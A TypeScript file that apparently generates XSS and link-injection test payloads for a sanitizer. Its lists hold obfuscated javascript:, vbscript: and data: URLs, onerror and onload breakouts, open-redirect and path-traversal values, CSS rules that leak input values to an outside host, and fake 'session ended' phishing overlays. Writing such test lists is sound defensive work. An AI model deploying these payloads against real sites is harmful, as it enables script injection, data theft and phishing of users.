/** What runs, or leads away, where it becomes the address of a link. */
export function addresses(run: string, outside: string): string[] {
  return [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    ` javascript:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `\u0001javascript:${run}`,
    `javascript://x/%0a${run}`,
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
    `javascript&colon;${run}`,
    `&#106;avascript:${run}`,
    `vbscript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    `blob:${outside}`,
    `view-source:${outside}`,
    `//${new URL(outside).host}/`,
    `/\\${new URL(outside).host}/`,
    `https:${new URL(outside).host}`,
    `${outside}`,
    `../../../../csp-reports`,
    `..%2f..%2fsign-out`,
    `?next=${outside}`,
    `#"><img src=x onerror=${run}>`,
  ]
}

/** What others make links and pictures of. */
export function links(run: string, outside: string): string[] {
  return [
    `[look here](javascript:${run})`,
    `[look here](${outside})`,
    `![x](${outside})`,
    `![x](x"onerror="${run})`,
    `[x]: javascript:${run}`,
    `<javascript:${run}>`,
    `<${outside}>`,
    `<a href="javascript:${run}">your session has ended</a>`,
    `<a href="${outside}" target=_blank rel=opener>your session has ended</a>`,
    `<a href=" &#14; javascript:${run}">x</a>`,
    `<a ping="${outside}" href="/">x</a>`,
    `<map><area href="javascript:${run}" shape=default></map><img usemap="#" src=x>`,
    `[url=javascript:${run}]x[/url]`,
    `@import url(${outside});`,
    `mailto:a@example.com?subject=<script>${run}</script>`,
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  ]
}

/** What does something where it becomes a style. */
export function styles(run: string, outside: string): string[] {
  return [
    `<style>@import "${outside}";</style>`,
    `<style>*{background:url(${outside})}</style>`,
    `<style>input[value^=a]{background:url(${outside}?a)}</style>`,
    `<style>body{display:none}</style>`,
    `<div style="position:fixed;inset:0;background:red">signed out</div>`,
    `<div style="background:url(${outside})">x</div>`,
    `" style="position:fixed;inset:0;z-index:9999`,
    `;background:url(${outside});x:`,
    `}*{background:url(${outside})}{`,
    `expression(${run})`,
    `<style>@font-face{font-family:x;src:url(${outside})}</style>`,
    `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  ]
}
